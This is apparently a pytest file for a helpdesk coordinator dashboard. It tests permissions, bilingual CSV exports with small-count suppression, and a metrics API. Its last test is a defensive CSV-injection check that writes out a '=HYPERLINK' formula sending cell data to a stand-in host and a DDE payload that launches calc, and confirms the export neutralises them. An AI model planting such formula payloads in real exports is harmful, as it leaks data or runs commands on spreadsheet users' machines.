"""The dashboard's permissions, its CSV exports, and GET /api/v1/metrics."""

from __future__ import annotations

import csv
import io
import uuid

import httpx
from sqlalchemy.engine import Engine

from tests.accounts.helpers import make_token, make_user, sign_in
from tests.conftest import clear_tables
from tests.metrics.conftest import MetricsWorld

PERIOD = "from=2026-03-02&to=2026-03-15"


def token_for(engine: Engine, role: str) -> dict[str, str]:
    username = f"{role}-{uuid.uuid4().hex[:8]}"
    make_user(engine, username, role)
    return {"Authorization": f"Bearer {make_token(engine, username)}"}


async def signed_in(client: httpx.AsyncClient, engine: Engine, role: str) -> None:
    username = f"{role}-{uuid.uuid4().hex[:8]}"
    make_user(engine, username, role)
    response = await sign_in(client, username, next_path="/staff")
    assert response.status_code == 303


# --- permissions -------------------------------------------------------------------------------


async def test_anonymous_visitors_are_sent_to_sign_in(client: httpx.AsyncClient) -> None:
    for path in ("/coordinator", "/coordinator/export/channel.csv"):
        response = await client.get(path)
        assert response.status_code == 303
        assert response.headers["location"].startswith("/login?next=/coordinator")


async def test_staff_cannot_see_the_dashboard(
    client: httpx.AsyncClient, db_engine: Engine, metrics_world: MetricsWorld
) -> None:
    await signed_in(client, db_engine, "staff")
    assert (await client.get("/coordinator")).status_code == 403
    assert (await client.get(f"/coordinator/export/channel.csv?{PERIOD}")).status_code == 403
    staff_page = await client.get("/staff")
    assert 'href="/coordinator"' not in staff_page.text


async def test_coordinators_see_the_dashboard(
    client: httpx.AsyncClient, db_engine: Engine, metrics_world: MetricsWorld
) -> None:
    await signed_in(client, db_engine, "coordinator")
    response = await client.get(f"/coordinator?{PERIOD}&lang=da")
    assert response.status_code == 200
    assert response.headers["cache-control"] == "no-store"
    html = response.text
    assert '<html lang="da"' in html
    # Tables with their counts, "<5" for the hidden ones, and a CSV link per table.
    assert 'id="table-channel"' in html
    assert "&lt;5" in html
    assert "/coordinator/export/channel.csv?from=2026-03-02&amp;to=2026-03-15" in html
    assert 'id="table-unmet"' in html
    assert "renew my residence permit" in html
    # Charts are drawn from the tables by a script served from helpdesk/assets.
    assert "/assets/chartjs/chart.umd.min.js" in html
    assert (await client.get("/assets/chartjs/chart.umd.min.js")).status_code == 200
    # The nav shows the dashboard to coordinators.
    assert 'href="/coordinator"' in (await client.get("/staff")).text


async def test_dashboard_by_place_and_bad_input(
    client: httpx.AsyncClient, db_engine: Engine, metrics_world: MetricsWorld
) -> None:
    await signed_in(client, db_engine, "coordinator")
    one = await client.get(f"/coordinator?{PERIOD}&location=metrics-b&lang=en")
    assert one.status_code == 200
    assert '<option value="metrics-b" selected>' in one.text
    # A bad period falls back to the default and says why.
    bad = await client.get("/coordinator?from=2026-03-15&to=2026-03-01&lang=en")
    assert bad.status_code == 200
    assert "The start date must be on or before the end date." in bad.text
    garbled = await client.get("/coordinator?from=yesterday&lang=en")
    assert garbled.status_code == 200
    assert "YYYY-MM-DD" in garbled.text


def cell_after(html: str, marker: str) -> str:
    """The text of the first table cell after ``marker`` (a row's heading)."""
    rest = html.split(marker, 1)[1]
    return rest.split('<td class="number">', 1)[1].split("</td>", 1)[0]


async def test_self_service_and_no_shows_by_place_on_the_dashboard(
    client: httpx.AsyncClient, db_engine: Engine, metrics_world: MetricsWorld
) -> None:
    await signed_in(client, db_engine, "coordinator")
    everywhere = (await client.get(f"/coordinator?{PERIOD}&lang=en")).text
    assert "Questions asked at the kiosks, in the chat and on the web, at all places" in everywhere
    # Questions by place: the kiosks' places, and the chat and web as no place.
    assert 'id="table-triage_location"' in everywhere
    assert (
        cell_after(everywhere.split('id="table-triage_location"')[1], "No place (chat, web)")
        == "20"
    )
    assert cell_after(everywhere.split('id="table-triage_location"')[1], ">Metrics A<") == "15"
    # No-shows by place: every count here is under 5, so hidden.
    no_shows = everywhere.split('id="table-booking_location"')[1].split("</table>")[0]
    assert "Metrics A" in no_shows
    assert "Metrics B" in no_shows
    assert "&lt;5" in no_shows
    assert "/coordinator/export/booking_location.csv?" in everywhere
    # One place: its kiosks' questions only, and no per-place tables.
    at_b = (await client.get(f"/coordinator?{PERIOD}&location=metrics-b&lang=en")).text
    assert "Questions asked at this place" in at_b
    assert 'id="table-triage_location"' not in at_b
    assert 'id="table-booking_location"' not in at_b
    outcomes = at_b.split('id="table-triage_outcome"')[1].split("</table>")[0]
    assert cell_after(outcomes, "A guide") == "6"
    danish = (await client.get(f"/coordinator?{PERIOD}&lang=da")).text
    assert "Udeblevne pr. sted" in danish
    assert "Spørgsmål pr. sted" in danish


# --- CSV ---------------------------------------------------------------------------------------


def read_csv(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for Excel
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


async def test_csv_in_english_and_danish(
    client: httpx.AsyncClient, db_engine: Engine, metrics_world: MetricsWorld
) -> None:
    await signed_in(client, db_engine, "coordinator")
    english = read_csv(await client.get(f"/coordinator/export/channel.csv?{PERIOD}&lang=en"))
    assert english == [
        ["Channel", "Count", "Share (%)"],
        ["Booked", "12", "40.0"],
        ["Walk-in", "10", "33.3"],
        ["Outreach", "<5", "<5"],
        ["Phone", "<5", "<5"],
        ["Total", "30"],
    ]
    danish = read_csv(await client.get(f"/coordinator/export/channel.csv?{PERIOD}&lang=da"))
    assert danish[0] == ["Kanal", "Antal", "Andel (%)"]
    assert danish[-1] == ["I alt", "30"]
    places = read_csv(
        await client.get(f"/coordinator/export/location.csv?{PERIOD}&lang=en&location=metrics-a")
    )
    assert places[1:] == [["Metrics A", "22", "100.0"], ["Total", "22"]]
    weekly = read_csv(await client.get(f"/coordinator/export/weekly.csv?{PERIOD}&lang=en"))
    assert weekly[0] == ["Week", "Can do it alone next time", "Count"]
    assert ["2026-03-02", "With some help", "6"] in weekly
    unmet = read_csv(await client.get(f"/coordinator/export/unmet.csv?{PERIOD}&lang=en"))
    assert unmet[0] == ["Questions like", "Count", "Language", "Examples"]
    assert unmet[1][1] == "7"
    assert unmet[-1][0] == "Other questions (groups of fewer than 5)"
    assert (await client.get("/coordinator/export/secrets.csv")).status_code == 404
    by_place = read_csv(
        await client.get(f"/coordinator/export/triage_location.csv?{PERIOD}&lang=en")
    )
    assert by_place[0] == ["Place", "Count", "Share (%)"]
    assert ["Metrics B", "6", "14.6"] in by_place
    assert by_place[-1] == ["Total", "41"]
    no_shows = read_csv(
        await client.get(f"/coordinator/export/booking_location.csv?{PERIOD}&lang=en")
    )
    assert no_shows[0] == ["Place", "Status", "Count"]
    assert ["Metrics B", "Cancelled", "0"] in no_shows
    assert no_shows[-1] == ["Total", "", "12"]


# --- the JSON API ------------------------------------------------------------------------------


async def test_metrics_api_needs_a_coordinator(
    client: httpx.AsyncClient, db_engine: Engine
) -> None:
    anonymous = await client.get("/api/v1/metrics?group_by=channel")
    assert anonymous.status_code == 401
    staff = await client.get(
        "/api/v1/metrics?group_by=channel", headers=token_for(db_engine, "staff")
    )
    assert staff.status_code == 403
    assert staff.json()["error"]["code"] == "forbidden"


async def test_metrics_api_answers_the_exact_shape(
    client: httpx.AsyncClient, db_engine: Engine, metrics_world: MetricsWorld
) -> None:
    headers = token_for(db_engine, "coordinator")
    response = await client.get(f"/api/v1/metrics?{PERIOD}&group_by=channel", headers=headers)
    assert response.status_code == 200
    assert response.json() == {
        "from": "2026-03-02",
        "to": "2026-03-15",
        "group_by": ["channel"],
        "location": None,
        "total": 30,
        "total_suppressed": False,
        "rows": [
            {"group": {"channel": "booked"}, "count": 12, "suppressed": False},
            {"group": {"channel": "walk_in"}, "count": 10, "suppressed": False},
            {"group": {"channel": "outreach"}, "count": None, "suppressed": True},
            {"group": {"channel": "phone"}, "count": None, "suppressed": True},
        ],
    }
    two = await client.get(
        f"/api/v1/metrics?{PERIOD}&group_by=location&group_by=week&location=metrics-a",
        headers=headers,
    )
    body = two.json()
    assert body["group_by"] == ["location", "week"]
    assert body["location"] == "metrics-a"
    assert body["total"] == 22
    assert {tuple(r["group"].values()): r["count"] for r in body["rows"]} == {
        ("metrics-a", "2026-03-02"): 17,
        ("metrics-a", "2026-03-09"): 5,
    }


async def test_metrics_api_refuses_bad_input_clearly(
    client: httpx.AsyncClient, db_engine: Engine
) -> None:
    headers = {**token_for(db_engine, "coordinator"), "Accept-Language": "en"}
    cases = {
        "group_by=channel&from=2026-13-01": ("invalid_date", "YYYY-MM-DD"),
        "group_by=channel&from=2026-03-15&to=2026-03-01": ("invalid_period", "start date"),
        "group_by=channel,colour": ("unknown_group_by", "colour"),
        "": ("group_by_required", "group_by"),
        "group_by=channel&location=nowhere": ("location_not_found", "place"),
    }
    for query, (code, words) in cases.items():
        response = await client.get(f"/api/v1/metrics?{query}", headers=headers)
        assert response.status_code == 422, query
        error = response.json()["error"]
        assert error["code"] == code
        assert words in error["message"]


async def test_metrics_api_is_in_the_openapi_document(client: httpx.AsyncClient) -> None:
    document = (await client.get("/api/v1/openapi.json")).json()
    operation = document["paths"]["/api/v1/metrics"]["get"]
    assert {p["name"] for p in operation["parameters"]} == {"from", "to", "group_by", "location"}
    schema = document["components"]["schemas"]["MetricsResponse"]
    assert {"from", "to", "group_by", "total", "rows"} <= set(schema["properties"])


async def test_dates_far_outside_any_period_are_refused_kindly(
    client: httpx.AsyncClient, db_engine: Engine
) -> None:
    headers = {**token_for(db_engine, "coordinator"), "Accept-Language": "da"}
    # The page explains and shows the default period; exports and the API answer 422.
    page = await client.get("/coordinator?from=0001-01-01&to=9999-12-31", headers=headers)
    assert page.status_code == 200
    assert "Vælg datoer fra år 2000 til 2100." in page.text
    for url in (
        "/coordinator/export/topic.csv?from=2026-01-01&to=9999-12-31",
        "/api/v1/metrics?from=1800-01-01&to=2026-01-01&group_by=topic",
    ):
        response = await client.get(url, headers=headers)
        assert response.status_code == 422, url
        assert response.json()["error"]["code"] == "date_out_of_range"


async def test_formulas_typed_by_citizens_reach_the_csv_as_text(
    client: httpx.AsyncClient, db_engine: Engine
) -> None:
    """The review's CSV injection: anonymous questions became "=HYPERLINK(...)" cells in the
    coordinator's Excel export. Every cell that starts like a formula gets an apostrophe."""
    clear_tables(db_engine, "triage_event")
    formulas = [
        '=HYPERLINK("https://evil.example/?leak="&B2,"Klik her")',
        "@SUM(1+1)*cmd|' /C calc'!A0 jeg vil tale med et menneske",
        "+kommunen kan ikke åbne min digitale post",
        "-jeg har glemt adgangskoden til biblioteket",
    ]
    for formula in formulas:
        for _ in range(6):
            triaged = await client.post("/api/v1/triage", json={"text": formula, "lang": "da"})
            assert triaged.status_code == 200
            token = triaged.json()["feedback_token"]
            feedback = await client.post(
                "/api/v1/feedback", json={"token": token, "helpful": False}
            )
            assert feedback.status_code == 200
    await signed_in(client, db_engine, "coordinator")
    rows = read_csv(await client.get("/coordinator/export/unmet.csv?lang=en"))
    titles = [row[0] for row in rows[1:]]
    for formula in formulas:
        assert "'" + formula in titles, titles
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    clear_tables(db_engine, "triage_event")
